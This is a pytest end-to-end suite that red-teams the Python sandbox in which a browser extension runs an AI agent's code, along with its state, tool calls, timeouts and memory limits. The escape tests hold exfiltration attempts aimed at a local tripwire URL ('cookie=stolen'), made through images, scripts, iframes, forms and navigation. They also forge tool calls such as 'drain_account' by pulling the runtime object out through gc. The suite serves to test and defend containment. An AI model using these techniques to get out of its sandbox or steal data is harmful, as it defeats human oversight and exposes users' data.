"""The sandbox that runs a CodeAgent's code, red-teamed in the real extension.

Each escape attempt is Python run in the sandbox (through the offscreen document's
CodeSandbox, reached over CDP), and each checks that nothing left (a local HTTP server
records every request it gets: there must be none) and that nothing broke (the sandbox
runs the next code). Also: state between runs and reset, tool stubs calling tools in the
parent, BeautifulSoup offline, final_answer, the output cap, clean tracebacks, code that
never ends, memory that never stops growing, and a CodeAgent with SandboxExecutor.
"""

from __future__ import annotations

import http.server
import json
import threading
import time

import pytest

from tests.helpers.quiet import stays_quiet
from tests.helpers.sandbox import ESCAPES, PING_FROM_PANEL

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]

SANDBOX_PAGE = "extension/sandbox/sandbox.html"


class Tripwire:
    """An HTTP server on 127.0.0.1 that records every request: the sandbox must never reach it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def record(self):
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"caught")

            do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/secret?cookie=stolen"


@pytest.fixture(scope="module")
def tripwire():
    server = Tripwire()
    yield server
    server.server.shutdown()


def assert_still_works(sandbox):
    assert sandbox.run("print('still here')")["output"] == "still here\n"


# --- What the sandbox does --------------------------------------------------------------


def test_variables_and_imports_persist_between_runs_until_reset(sandbox):
    sandbox.js("globalThis.tabagent.sandbox.reset()")
    assert sandbox.run("import json\ncount = 41")["output"] == ""
    assert sandbox.run("count += 1\nprint(json.dumps({'count': count}))")["output"] == '{"count": 42}\n'
    sandbox.js("globalThis.tabagent.sandbox.reset()")
    after = sandbox.run("json, count")
    assert after["isError"] and "NameError: name 'json' is not defined" in after["output"]


def test_final_answer_ends_the_run_with_its_value(sandbox):
    result = sandbox.run("print('before')\nfinal_answer({'total': 8, 'items': ['tea', 'cake']})\nprint('after')")
    assert result["isFinal"] and not result["isError"]
    assert result["output"] == "before\n"
    assert json.loads(result["finalValue"]) == {"total": 8, "items": ["tea", "cake"]}


def test_output_is_capped_with_a_note(sandbox):
    result = sandbox.run("print('x' * 5000)", maxOutputChars=1000)
    assert result["output"].startswith("x" * 1000 + "\n[... cut 4,001 of 5,001 characters.")
    assert len(result["output"]) < 1200


def test_tracebacks_show_the_models_code_and_nothing_of_the_sandbox(sandbox):
    output = sandbox.run("def price(item):\n    return {'tea': 3}[item]\n\nprice('cake')")["output"]
    assert output.startswith('Traceback (most recent call last):\n  File "<agent code>", line 4, in <module>\n')
    assert '  File "<agent code>", line 2, in price\n' in output
    assert output.endswith("KeyError: 'cake'\n")
    assert output.count("File ") == 2, output


def test_tool_stubs_call_the_tool_in_the_parent_and_get_its_answer(sandbox):
    reply = sandbox.js("""(async () => {
        const calls = [];
        const tools = [{ name: "add", doc: "Adds two numbers.",
                         params: [{ name: "a", required: true }, { name: "b", required: false, default: "0" }] }];
        const onToolCall = async (name, argsJson) => {
            calls.push([name, JSON.parse(argsJson)]);
            const { args: [a], kwargs: { b = 0 } } = JSON.parse(argsJson);
            if (a < 0) return JSON.stringify({ ok: false, error: { type: "ValueError", module: "builtins", base: "ValueError", args: ["a must not be negative"] } });
            return JSON.stringify({ ok: true, value: a + b });
        };
        const code = "import inspect\\nprint(add(2, b=3), inspect.signature(add), add.__doc__)\\n" +
                     "try:\\n    add(-1)\\nexcept ValueError as e:\\n    print('refused:', e)";
        const result = await globalThis.tabagent.sandbox.run(code, { tools, onToolCall });
        return { result, calls };
    })()""")
    assert reply["result"]["output"] == "5 (a, b=0) Adds two numbers.\nrefused: a must not be negative\n"
    assert reply["calls"] == [["add", {"args": [2], "kwargs": {"b": 3}}], ["add", {"args": [-1], "kwargs": {}}]]


def test_beautifulsoup_imports_and_parses_without_a_network(sandbox):
    code = ("from bs4 import BeautifulSoup\nimport soupsieve\n"
            "soup = BeautifulSoup('<ul><li class=a>tea</li><li>cake <b>5</b></li></ul>', 'html.parser')\n"
            "print([li.get_text(' ', strip=True) for li in soup.select('li')], soup.select_one('li.a').text)")
    assert sandbox.run(code)["output"] == "['tea', 'cake 5'] tea\n"


def test_a_code_agent_with_the_sandbox_executor_reads_parses_keeps_state_and_answers(sandbox):
    result = json.loads(sandbox.python('''
import json
from tabagent import CodeAgent, tool
from tabagent.testing import ScriptedModel
from tabagent.app.sandbox_executor import SandboxExecutor

PAGE = "<h1>Prices</h1><table><tr><td>tea</td><td>3</td></tr><tr><td>cake</td><td>5</td></tr></table>"

@tool
def read_page(selector: str = "body") -> str:
    """The page's HTML.

    Args:
        selector: Which part of the page.
    """
    return PAGE

model = ScriptedModel([
    "```python\\nfrom bs4 import BeautifulSoup\\nsoup = BeautifulSoup(read_page(), 'html.parser')\\n"
    "prices = {tr('td')[0].text: int(tr('td')[1].text) for tr in soup('tr')}\\nprint(prices)\\n```",
    "```python\\nfinal_answer(sum(prices.values()))\\n```",
])
events = []
agent = CodeAgent(model, [read_page], executor=SandboxExecutor(sandbox_for("test")),
                  listeners=[lambda event: events.append(event)])
answer = await agent.run("What do tea and cake cost together?")
json.dumps({"answer": answer, "events": [[e.kind, e.data] for e in events if e.kind != "token"]})
'''))
    assert result["answer"] == 8
    kinds = [kind for kind, _ in result["events"]]
    assert kinds == ["step_start", "code", "tool_call", "tool_result", "code_output",
                     "step_start", "code", "code_output", "final_answer", "done"], kinds
    assert result["events"][2][1]["name"] == "read_page"
    assert result["events"][4][1] == {"output": "{'tea': 3, 'cake': 5}\n", "is_error": False}


# --- No way out --------------------------------------------------------------------------


def test_the_tripwire_catches_what_does_leave(sandbox, tripwire):
    """The control: the offscreen document may fetch, and the tripwire sees it."""
    assert sandbox.js(f"fetch({json.dumps(tripwire.url)}).then((r) => r.text())") == "caught"
    assert tripwire.hits == ["GET /secret?cookie=stolen"]
    tripwire.hits.clear()


@pytest.mark.parametrize("escape", ESCAPES)
def test_no_way_out(sandbox, tripwire, escape):
    code = ESCAPES[escape].replace("URL", repr(tripwire.url)) + "\nprint('GOT OUT')"
    result = sandbox.run(code, timeoutMs=10_000)
    assert result["isError"] and result["stopped"] is None, result
    assert "GOT OUT" not in result["output"]
    assert_still_works(sandbox)
    stays_quiet(lambda: tripwire.hits, 0.5, why="the model's code reached the network")


def test_the_sandbox_has_no_origin_no_extension_apis_and_no_window(sandbox):
    output = sandbox.run("import js\nprint(js.self.origin, [getattr(js, n, None) for n in "
                         "('chrome', 'document', 'parent', 'fetch', 'postMessage', 'RTCPeerConnection')])")["output"]
    assert output == "null [None, None, None, None, None, None]\n"


def test_the_sandbox_page_itself_is_walled_in_by_its_csp_and_sandbox_flags(browser, sandbox, tripwire):
    """The second wall, tried from the page that hosts the worker: no model code runs there,
    but if some did, CSP and the sandbox flags would still stop it."""
    frames = [t for t in browser.cdp.targets() if t["type"] == "iframe" and t["url"].endswith(SANDBOX_PAGE)]
    if not frames:
        pytest.skip("this Chromium keeps sandboxed frames in their parent's process: no target to attach to")
    url = json.dumps(tripwire.url)
    tried = browser.evaluate_in(frames[0], f"""(async () => {{
        const tried = {{ origin: self.origin, runtime: typeof chrome?.runtime?.sendMessage,
                         storage: typeof chrome?.storage, fetch: typeof fetch,
                         rtc: typeof RTCPeerConnection, open: typeof open }};
        new Image().src = {url};
        const script = document.createElement("script"); script.src = {url}; document.head.append(script);
        const link = document.createElement("link"); link.rel = "prefetch"; link.href = {url}; document.head.append(link);
        const frame = document.createElement("iframe"); frame.src = {url}; document.body.append(frame);
        const form = document.createElement("form"); form.action = {url}; form.method = "post";
        document.body.append(form); form.submit();
        try {{ top.location.href = {url}; tried.top = "navigated"; }} catch (e) {{ tried.top = e.name; }}
        try {{ tried.parentDocument = String(parent.document); }} catch (e) {{ tried.parentDocument = e.name; }}
        await new Promise((resolve) => setTimeout(resolve, 500));
        return tried;
    }})()""")
    assert tried == {"origin": "null", "runtime": "undefined", "storage": "undefined", "fetch": "undefined", "rtc": "undefined",
                     "open": "undefined", "top": "SecurityError", "parentDocument": "SecurityError"}
    assert tripwire.hits == []
    assert_still_works(sandbox)


def test_messages_from_other_windows_and_forged_messages_change_nothing(sandbox):
    """The offscreen document's own window posts a forged result, and the sandboxed code digs
    out the runtime's own channel to forge calls and results: none of it counts."""
    code = '''
import gc, json
from tabagent.app.in_sandbox import runtime as sandbox_runtime
runtime = next(o for o in gc.get_objects() if isinstance(o, sandbox_runtime.SandboxRuntime))
me = runtime._run_id
for forged in ({"type": "tool-call", "run_id": me, "call_id": 900, "name": "drain_account", "args": "{}"},
               {"type": "tool-call", "run_id": me + 7, "call_id": 901, "name": "add", "args": "{}"},
               {"type": "result", "run_id": me + 1, "output": "forged", "is_error": False, "is_final": True, "final_value": "1"}):
    runtime._post(json.dumps(forged))
try:
    runtime._post(json.dumps({"type": "eval", "code": "alert(1)"}))
except Exception as e:
    print("the worker refused it:", type(e).__name__)
import asyncio
await asyncio.sleep(0.3)  # the forgeries reach the parent first
print(add(1, 2))
'''
    reply = sandbox.js(f"""(async () => {{
        const sandbox = globalThis.tabagent.sandbox;
        const calls = [];
        const running = sandbox.run({json.dumps(code)}, {{
            tools: [{{ name: "add", doc: "", params: [{{ name: "a", required: true }}, {{ name: "b", required: true }}] }}],
            onToolCall: async (name, argsJson) => {{
                calls.push(name);
                const {{ args: [a, b] }} = JSON.parse(argsJson);
                return JSON.stringify({{ ok: true, value: a + b }});
            }},
        }});
        window.postMessage({{ type: "result", run_id: sandbox.lastRunId, output: "forged by a window",
                              is_error: false, is_final: true, final_value: "1" }}, "*");
        return {{ result: await running, calls }};
    }})()""")
    assert reply["result"]["output"] == "the worker refused it: JsException\n3\n", reply
    assert reply["result"]["isFinal"] is False
    assert reply["calls"] == ["add"]
    assert_still_works(sandbox)


# --- Limits ------------------------------------------------------------------------------


def test_code_that_never_ends_is_stopped_while_the_extension_stays_responsive(browser, sandbox):
    # How fast the panel answers meanwhile is a benchmark's business (bench_sandbox.py); this
    # test shows that it answers while the code still spins, rather than after it was stopped.
    outcome = {}

    def spin():
        started = time.perf_counter()
        outcome["result"] = sandbox.run("while True:\n    pass", timeoutMs=10_000)
        outcome["seconds"] = time.perf_counter() - started

    spinner = threading.Thread(target=spin)
    spinner.start()
    time.sleep(1)  # the worker is spinning now
    pings = [browser.driver.execute_async_script(PING_FROM_PANEL) for _ in range(3)]
    answered_while_spinning = "result" not in outcome
    spinner.join(timeout=60)
    assert all(p["ok"] for p in pings), pings
    assert answered_while_spinning, ("the panel was answered only once the code was stopped", pings, outcome)
    result = outcome["result"]
    assert result["stopped"] == "timeout" and result["isError"]
    assert result["output"].startswith("Execution timed out after 10 s and was stopped.")
    assert outcome["seconds"] >= 10, outcome
    assert sandbox.run("print('next')")["output"] == "next\n"  # on the spare
    # The spinning worker is gone: only the active sandbox's and the new spare's remain, beside
    # the worker the agent's own Python runs in (extension/offscreen/python/worker.js).
    sandbox.js("""(async () => {
        while (globalThis.tabagentDebug.sandboxStatus(globalThis.tabagent.sandbox).spare !== "ready") await new Promise((r) => setTimeout(r, 20));
    })()""")
    deadline = time.monotonic() + 5
    while len(workers := [t for t in browser.cdp.targets() if t["type"] == "worker"]) != 3:
        assert time.monotonic() < deadline, workers
        time.sleep(0.1)


def test_memory_that_grows_without_end_is_stopped(sandbox):
    result = sandbox.run("blocks = []\nwhile True:\n    blocks.append(bytearray(10**7))",
                         memoryLimitMb=300, timeoutMs=30_000)
    assert result["stopped"] == "memory", result
    assert result["output"].startswith("Execution stopped: the code used more than 300 MB of memory.")
    assert_still_works(sandbox)


def test_one_allocation_far_past_the_limit_is_a_memory_error_and_the_state_survives(sandbox):
    sandbox.js("globalThis.tabagent.sandbox.reset()")
    sandbox.run("kept = 'yes'")
    result = sandbox.run("big = bytearray(2 * 10**9)", memoryLimitMb=300)
    assert result["stopped"] is None and result["output"].endswith("MemoryError\n"), result
    assert sandbox.run("print(kept)", memoryLimitMb=300)["output"] == "yes\n"


def test_stop_ends_the_code_at_once(sandbox):
    reply = sandbox.js("""(async () => {
        const sandbox = globalThis.tabagent.sandbox;
        const running = sandbox.run("while True: pass");
        await new Promise((resolve) => setTimeout(resolve, 300));
        sandbox.stop();
        return { result: await running };
    })()""")
    assert reply["result"]["stopped"] == "stopped", reply
    assert_still_works(sandbox)


def test_a_sandbox_evicted_while_busy_closes_when_its_run_ends(sandbox):
    """Sandboxes keeps a few hosts; when all are busy the oldest is dropped from the list, and
    its page (a whole Pyodide) must then really close once its run ends, not linger unowned."""
    seen = sandbox.js("""(async () => {
      const { Sandboxes } = await import(chrome.runtime.getURL("extension/offscreen/code-sandboxes/sandboxes.js"));
      const sandboxes = new Sandboxes({ keep: 1 });
      const first = sandboxes.forAgent("conversation-1", "agent");
      let release, called;
      const gate = new Promise((resolve) => (release = resolve));
      const waiting = new Promise((resolve) => (called = resolve));
      const running = first.run("print(hold())", {
        tools: [{ name: "hold", doc: "", params: [] }],
        onToolCall: async () => { called(); await gate; return JSON.stringify({ ok: true, value: "released" }); },
      });
      await waiting; // the run is under way, inside a tool call
      const second = sandboxes.forAgent("conversation-2", "agent"); // no room: evicts the busy first
      const iframe = first.frame.iframe;
      const during = { listed: [...sandboxes.hosts.values()].includes(first), open: iframe.isConnected };
      release();
      const result = await running;
      return { during, output: result.output, after: { open: iframe.isConnected, frame: first.frame },
               secondListed: [...sandboxes.hosts.values()].includes(second) };
    })()""")
    assert seen["during"] == {"listed": False, "open": True}, seen  # evicted, but its run goes on
    assert seen["output"] == "released\n", seen
    assert seen["after"] == {"open": False, "frame": None}, seen
    assert seen["secondListed"] is True
